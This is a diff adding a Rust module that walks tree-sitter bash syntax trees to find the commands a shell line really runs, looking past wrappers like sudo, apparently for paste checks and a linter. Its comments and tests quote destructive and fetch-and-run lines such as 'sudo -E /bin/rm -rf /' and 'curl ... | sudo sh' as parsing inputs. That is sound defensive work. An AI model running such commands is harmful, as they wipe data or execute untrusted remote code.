@@ -0,0 +1,178 @@
+//! Reading commands from tree-sitter-bash syntax trees.
+//!
+//! Paste checks and the linter both look at the commands a command line runs: through
+//! pipelines, command substitutions and subshells, and past wrappers such as `sudo`, so
+//! `sudo -E /bin/rm -rf /` is seen as `rm`.
+
+use log::info;
+use tree_sitter::Node;
+
+/// Commands that run the command given as their arguments.
+pub const WRAPPERS: &[&str] = &["sudo", "doas", "pkexec", "env", "nice", "nohup", "time", "command", "exec", "xargs"];
+
+/// The command a `command` node runs, with the wrappers in front of it skipped.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RealCommand<'t> {
+    /// The command name without its directory, e.g. `rm` for `/bin/rm`.
+    pub name: String,
+    /// The words after the name.
+    pub arguments: Vec<Node<'t>>,
+    /// The wrappers skipped, without their directories, e.g. `["sudo", "env"]`.
+    pub wrappers: Vec<String>,
+}
+
+/// Reads the command a `command` node runs. The wrappers in front of it are skipped along
+/// with their options and `env`'s assignments.
+///
+/// # Arguments
+///
+/// * `node` - A `command` node.
+/// * `source` - The text the node was parsed from.
+///
+/// # Returns
+///
+/// The command, or `None` if the node has no name or only wrappers.
+pub fn real_command<'t>(node: Node<'t>, source: &str) -> Option<RealCommand<'t>> {
+    let mut cursor = node.walk();
+    let mut words: Vec<Node<'t>> = node.child_by_field_name("name").into_iter().collect();
+    words.extend(node.children_by_field_name("argument", &mut cursor));
+
+    let mut words = words.into_iter().peekable();
+    let mut name = unquote(text_of(words.next()?, source));
+    let mut wrappers = Vec::new();
+    while WRAPPERS.contains(&basename(&name)) {
+        wrappers.push(basename(&name).to_string());
+        while words.peek().is_some_and(|word| {
+            let word = unquote(text_of(*word, source));
+            word.starts_with('-') || word.contains('=')
+        }) {
+            words.next();
+        }
+        name = unquote(text_of(words.next()?, source));
+    }
+    Some(RealCommand { name: basename(&name).to_string(), arguments: words.collect(), wrappers })
+}
+
+/// Returns the text of a node as written.
+pub fn text_of<'a>(node: Node, source: &'a str) -> &'a str {
+    &source[node.byte_range()]
+}
+
+fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Removes the quotes and escapes from a shell word, e.g. `"/"` or `\/` becomes `/`.
+pub fn unquote(word: &str) -> String {
+    let mut unquoted = String::with_capacity(word.len());
+    let mut chars = word.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' | '"' => {}
+            '\\' => unquoted.extend(chars.next()),
+            c => unquoted.push(c),
+        }
+    }
+    unquoted
+}
+
+/// Runs `visit` on the `command` nodes of each pipeline in `node` and its descendants.
+/// A command outside a pipeline is visited as a pipeline of one.
+pub fn visit_pipelines<'t>(node: Node<'t>, visit: &mut dyn FnMut(&[Node<'t>])) {
+    let stages: Vec<Node> = match node.kind() {
+        "pipeline" => {
+            let mut cursor = node.walk();
+            node.named_children(&mut cursor).collect()
+        }
+        "command" => vec![node],
+        _ => {
+            let mut cursor = node.walk();
+            for child in node.named_children(&mut cursor) {
+                visit_pipelines(child, visit);
+            }
+            return;
+        }
+    };
+    let commands: Vec<Node> = stages.iter().filter_map(|stage| command_node(*stage)).collect();
+    visit(&commands);
+
+    // More commands can hide in arguments, e.g. `echo $(curl x | sh)`, or in grouped
+    // stages, e.g. `(cd / && rm -rf *) | tee log`.
+    for stage in stages {
+        match command_node(stage) {
+            Some(command) => {
+                let mut cursor = command.walk();
+                for child in command.named_children(&mut cursor) {
+                    visit_pipelines(child, visit);
+                }
+            }
+            None => visit_pipelines(stage, visit),
+        }
+    }
+}
+
+/// Returns the command of a pipeline stage, looking through redirections like `sh 2>&1`.
+fn command_node(node: Node) -> Option<Node> {
+    match node.kind() {
+        "command" => Some(node),
+        "redirected_statement" => node.child_by_field_name("body").and_then(command_node),
+        _ => None,
+    }
+}
+
+/// Initializes the shell syntax module.
+pub fn init() {
+    info!("shell_syntax module loaded");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tree_sitter::Parser;
+
+    /// The name, wrappers and unquoted arguments of a command.
+    type Summary = (String, Vec<String>, Vec<String>);
+
+    /// Returns the commands of each pipeline.
+    fn pipelines(line: &str) -> Vec<Vec<Summary>> {
+        let mut parser = Parser::new();
+        parser.set_language(&tree_sitter_bash::language()).unwrap();
+        let tree = parser.parse(line, None).unwrap();
+        let mut pipelines = Vec::new();
+        visit_pipelines(tree.root_node(), &mut |commands| {
+            pipelines.push(
+                commands
+                    .iter()
+                    .filter_map(|command| real_command(*command, line))
+                    .map(|command| {
+                        let arguments = command.arguments.iter().map(|argument| unquote(text_of(*argument, line))).collect();
+                        (command.name, command.wrappers, arguments)
+                    })
+                    .collect(),
+            );
+        });
+        pipelines
+    }
+
+    fn command(name: &str, wrappers: &[&str], arguments: &[&str]) -> Summary {
+        let strings = |words: &[&str]| words.iter().map(|word| word.to_string()).collect();
+        (name.to_string(), strings(wrappers), strings(arguments))
+    }
+
+    #[test]
+    fn test_real_command() {
+        assert_eq!(
+            pipelines("sudo -E env 'A=1' /bin/rm -rf \"/\""),
+            vec![vec![command("rm", &["sudo", "env"], &["-rf", "/"])]],
+        );
+        assert_eq!(
+            pipelines("curl -s x.io 2>&1 | sudo sh"),
+            vec![vec![command("curl", &[], &["-s", "x.io"]), command("sh", &["sudo"], &[])]],
+        );
+        assert_eq!(
+            pipelines("echo $(nohup ls)"),
+            vec![vec![command("echo", &[], &["$(nohup ls)"])], vec![command("ls", &["nohup"], &[])]],
+        );
+        assert_eq!(pipelines("sudo -i"), vec![Vec::new()]);
+    }
+}